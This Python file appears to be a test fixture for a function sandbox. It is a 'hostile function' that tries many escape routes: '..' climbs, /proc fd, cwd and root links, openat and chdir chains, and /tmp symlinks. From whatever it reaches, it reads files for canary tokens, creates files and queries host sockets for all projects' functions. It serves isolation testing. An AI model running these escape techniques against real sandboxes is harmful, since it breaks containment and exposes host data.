#!/usr/bin/python3 -I
"""A hostile function: tries every way out of its sandbox that it knows and reports what it reached.

It runs as a python3 function (`attack.main(**spec)`) and, through the shell runtime, as an
executable that reads the same spec as JSON on stdin and prints its report on stdout. It never
decides whether it escaped: the test judges on the host side, from what it reports (directory
identities, names, contents, descriptor links) and from what it left on the host (files,
connections). So the report says what was reached, not what failed.

The spec (the call's input) is what an attacker could guess: host paths to read, create and
connect to, and the data directory's path. None of it is echoed: a target is named by its index.

Routes out: `..` from `__file__`'s directory, from the cwd and from $PWD; every `/proc/<pid>/fd/N`,
`/proc/<pid>/cwd` and `/proc/<pid>/root` of every visible process and thread, each followed by
`..` many times; `openat(fd, "..")` chains from every directory descriptor held and from fresh ones;
symbolic links made at run time in /tmp through the code directory and to host paths. From every
distinct directory reached: list it, read its files (grep for canary tokens), try the targets
relative to it as if it were the host's `/`, and the data directory's file names inside it.
"""

import json
import os
import re
import socket
import stat
import sys
import time

TOKEN = re.compile(rb"HEARTHCANARY[0-9a-f]{32}")
UP = 12                      # how many `..` to climb from each route
DEPTH = 3                    # how deep to look under each directory reached
SKIP = {"proc", "sys", "usr", "lib", "lib32", "lib64", "libx32", "bin", "sbin", "boot", "snap",
        "run", "etc", ".git", ".build", "node_modules", ".venv", "__pycache__", "share", "include"}
FILE_LIMIT = 16 << 20
DIR_OPEN = os.O_RDONLY | os.O_DIRECTORY | os.O_CLOEXEC
BANNER = "hearth-escape-attack"


class Attack:
    def __init__(self, spec):
        self.spec = spec
        self.here = os.path.dirname(__file__)
        self.seen = {}           # (dev, ino) of every directory reached -> the route that reached it
        self.roots = []          # routes of the distinct directories reached by a route out
        self.scanned = set()
        self.files = set()
        self.tokens = set()
        self.held = []           # descriptors opened on the way, closed at the end
        self.budget = {"entries": 3000, "files": 200, "bytes": 32 << 20}
        self.deadline = time.monotonic() + float(spec.get("seconds", 20))
        self.report = {"banner": BANNER, "marker": spec.get("marker"), "pid": os.getpid(), "ppid": os.getppid(),
                       "attempts": 0, "dirs": [], "listed": {}, "links": {}, "read": {}, "created": [],
                       "connected": {}, "tokens": []}

    # ---- what was reached ---------------------------------------------------------------------

    def directory(self, route, label=None, top=True):
        """Note the directory `route` names (if it is one): its identity, once."""
        self.report["attempts"] += 1
        try:
            st = os.stat(route)
        except (OSError, ValueError):
            return False
        if not stat.S_ISDIR(st.st_mode):
            return False
        key = (st.st_dev, st.st_ino)
        if key in self.seen:
            return True
        self.seen[key] = label or route
        if len(self.report["dirs"]) < 1500:
            self.report["dirs"].append("dir:%d:%d %s" % (st.st_dev, st.st_ino, label or route))
        if top:
            self.roots.append((route, label or route))
        return True

    def climb(self, route, label=None):
        for k in range(UP + 1):
            path = route + "/.." * k
            self.directory(path, (label or route) + "/.." * k)

    def read_file(self, path):
        """Contents of a regular file (once per file), grepped for tokens; None if unreadable."""
        if self.budget["files"] <= 0 or self.budget["bytes"] <= 0:
            return None
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY | os.O_CLOEXEC)
        except (OSError, ValueError):
            return None
        try:
            st = os.fstat(fd)
            if not stat.S_ISREG(st.st_mode):
                return None
            key = (st.st_dev, st.st_ino)
            data = b""
            if key not in self.files:
                self.files.add(key)
                self.budget["files"] -= 1
                chunks, left = [], min(FILE_LIMIT, self.budget["bytes"])
                while left > 0:
                    chunk = os.read(fd, min(left, 1 << 20))
                    if not chunk:
                        break
                    chunks.append(chunk)
                    left -= len(chunk)
                data = b"".join(chunks)
                self.budget["bytes"] -= len(data)
                self.tokens.update(TOKEN.findall(data))
            else:
                data = os.pread(fd, 256, 0)
            return data
        except OSError:
            return None
        finally:
            os.close(fd)

    def scan(self, route, label, depth=0):
        """List a directory and read what is under it, a few levels down, within the budget."""
        if time.monotonic() > self.deadline or self.budget["entries"] <= 0:
            return
        try:
            names = sorted(os.listdir(route))
        except (OSError, ValueError):
            return
        if depth == 0 and len(self.report["listed"]) < 200:
            self.report["listed"][label] = names[:100] + (["…%d more" % (len(names) - 100)] if len(names) > 100 else [])
        for name in names:
            if self.budget["entries"] <= 0 or time.monotonic() > self.deadline:
                return
            self.budget["entries"] -= 1
            path = route + "/" + name
            try:
                st = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISREG(st.st_mode) and st.st_size <= FILE_LIMIT:
                self.read_file(path)
            elif stat.S_ISDIR(st.st_mode) and depth < DEPTH and name not in SKIP:
                key = (st.st_dev, st.st_ino)
                if key in self.scanned:
                    continue
                self.scanned.add(key)
                self.directory(path, label + "/" + name, top=False)
                self.scan(path, label + "/" + name, depth + 1)

    # ---- routes out ---------------------------------------------------------------------------

    def pids(self):
        try:
            return sorted(name for name in os.listdir("/proc") if name.isdigit())
        except OSError:
            return []

    def links(self, directory):
        try:
            names = os.listdir(directory)
        except OSError:
            return []
        found = []
        for name in sorted(names):
            path = directory + "/" + name
            try:
                self.report["links"][path] = os.readlink(path)
            except OSError:
                pass
            found.append(path)
        return found

    def routes(self):
        yield self.here, "__file__ dir"
        yield os.path.dirname(os.path.abspath(__file__)), "abspath(__file__) dir"
        yield ".", "cwd"
        if os.environ.get("PWD"):
            yield os.environ["PWD"], "$PWD"
        yield "/", "/"
        for pid in ["self", "thread-self"] + self.pids():
            base = "/proc/" + pid
            for what in ("cwd", "root"):
                try:
                    self.report["links"][base + "/" + what] = os.readlink(base + "/" + what)
                except OSError:
                    pass
                yield base + "/" + what, None
            for path in self.links(base + "/fd"):
                yield path, None
            try:
                tasks = sorted(os.listdir(base + "/task"))
            except OSError:
                tasks = []
            for tid in tasks:
                for what in ("cwd", "root"):
                    yield "%s/task/%s/%s" % (base, tid, what), None
                for path in self.links("%s/task/%s/fd" % (base, tid)):
                    yield path, None
        for path, label in self.symlinks():
            yield path, label

    def symlinks(self):
        """Links made now in the sandbox's /tmp: through the code directory, and to host paths."""
        made = []
        targets = [("through-code", self.here + "/../../../.."), ("through-code-deep", self.here + "/.." * UP),
                   ("through-cwd", "/proc/%d/cwd/../../.." % os.getpid()), ("to-data-dir", self.spec.get("data_dir") or "/nonexistent")]
        for name, target in targets:
            link = "/tmp/%s-%s" % (BANNER, name)
            try:
                if os.path.islink(link):
                    os.unlink(link)
                os.symlink(target, link)
                made.append((link, "symlink " + name))
            except OSError:
                pass
        return made

    def chains(self):
        """openat(fd, "..") again and again, from every directory descriptor held and from new ones."""
        starts = []
        try:
            held = sorted(int(name) for name in os.listdir("/proc/self/fd"))
        except OSError:
            held = []
        for fd in held:
            try:
                if stat.S_ISDIR(os.fstat(fd).st_mode):
                    starts.append((fd, "held fd %d" % fd))
            except OSError:
                pass
        for path, label in [(".", "open(.)"), (self.here, "open(__file__ dir)"), ("/proc/self/cwd", "open(/proc/self/cwd)"),
                            ("/proc/self/root", "open(/proc/self/root)"), ("/proc/1/cwd", "open(/proc/1/cwd)"),
                            ("/proc/1/root", "open(/proc/1/root)"), ("/", "open(/)")]:
            try:
                fd = os.open(path, DIR_OPEN)
            except (OSError, ValueError):
                continue
            self.held.append(fd)
            starts.append((fd, label))
        for fd, label in starts:
            current = fd
            for k in range(1, UP + 1):
                try:
                    up = os.open("..", DIR_OPEN, dir_fd=current)
                except OSError:
                    break
                self.held.append(up)
                self.directory("/proc/self/fd/%d" % up, "%s openat(..)x%d" % (label, k))
                current = up
        # fchdir to each and climb the cwd with chdir("..").
        for fd, label in starts:
            try:
                os.fchdir(fd)
                for k in range(1, UP + 1):
                    os.chdir("..")
                    opened = os.open(".", DIR_OPEN)
                    self.held.append(opened)
                    self.directory("/proc/self/fd/%d" % opened, "%s fchdir+chdir(..)x%d" % (label, k))
            except OSError:
                pass

    # ---- what to do from each directory reached -----------------------------------------------

    def targets(self, route, label):
        if time.monotonic() > self.deadline:
            return
        for i, target in enumerate(self.spec.get("read") or []):
            data = self.read_file(route + target)
            if data is not None:
                self.report["read"]["%s + read[%d]" % (label, i)] = data[:160].decode("latin-1")
        for i, name in enumerate(self.spec.get("names") or []):
            data = self.read_file(route + "/" + name)
            if data is not None:
                self.report["read"]["%s + names[%d]" % (label, i)] = data[:160].decode("latin-1")
        for i, target in enumerate(self.spec.get("create") or []):
            self.create(route + target, "%s + create[%d]" % (label, i))
        if self.spec.get("connect"):
            try:
                fd = os.open(route, os.O_PATH | os.O_CLOEXEC)
            except (OSError, ValueError):
                return
            try:
                for i, target in enumerate(self.spec["connect"]):
                    self.connect("/proc/self/fd/%d%s" % (fd, target), "%s + connect[%d]" % (label, i))
            finally:
                os.close(fd)

    def create(self, path, label):
        self.report["attempts"] += 1
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_CLOEXEC, 0o666)
        except (OSError, ValueError):
            return
        try:
            os.write(fd, (self.spec.get("marker") or BANNER).encode())
        finally:
            os.close(fd)
        self.report["created"].append(label)

    def connect(self, address, label):
        self.report["attempts"] += 1
        if len(address.encode()) > 107:
            return
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect(address)
            s.sendall(("GET /v1/functions?all_projects=true HTTP/1.0\r\nHost: hearth\r\n\r\n%s\n" % self.spec.get("marker")).encode())
            reply = b""
            try:
                while len(reply) < 65536:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    reply += chunk
            except OSError:
                pass
            self.report["connected"][label] = reply[:4000].decode("latin-1")
            self.tokens.update(TOKEN.findall(reply))
        except OSError:
            pass
        finally:
            s.close()

    def direct(self):
        """What needs no route: creating files in the sandbox's own tree, abstract sockets."""
        name = self.spec.get("name") or BANNER
        for path in [self.here + "/" + name, "./" + name, "/" + name, "/usr/" + name, "/runtimes/" + name,
                     "/dev/" + name, "/dev/shm/" + name, "/var/tmp/" + name, "/proc/" + name, "/tmp/" + name]:
            self.create(path, "direct " + path.replace(name, "<name>"))
        for i, target in enumerate(self.spec.get("connect") or []):
            self.connect(target, "direct connect[%d]" % i)
        for i, abstract in enumerate(self.spec.get("abstract") or []):
            self.connect("\0" + abstract, "abstract[%d]" % i)

    def run(self):
        original = os.open(".", DIR_OPEN)
        try:
            for route, label in list(self.routes()):
                self.climb(route, label)
            self.chains()
            self.direct()
            for route, label in list(self.roots):
                self.targets(route, label)
            for route, label in list(self.roots):
                self.scan(route, label)
        finally:
            os.fchdir(original)
            os.close(original)
            for fd in self.held:
                try:
                    os.close(fd)
                except OSError:
                    pass
        self.report["tokens"] = sorted(token.decode() for token in self.tokens)
        self.report["distinct_dirs"] = len(self.seen)
        self.report["files_read"] = len(self.files)
        return self.report


def main(**spec):
    spec.pop("context", None)
    report = Attack(spec).run()
    # The log gets the short version: enough to see what happened, judged like the result.
    print(json.dumps({k: report[k] for k in ("banner", "marker", "attempts", "distinct_dirs", "files_read",
                                             "tokens", "created", "connected")}))
    return report


if __name__ == "__main__":
    # Through the shell runtime: the spec on stdin, the report on stdout (which is the output).
    spec = json.loads(sys.stdin.read() or "{}")
    report = Attack(spec).run()
    sys.stdout.write(json.dumps(report) + "\n")
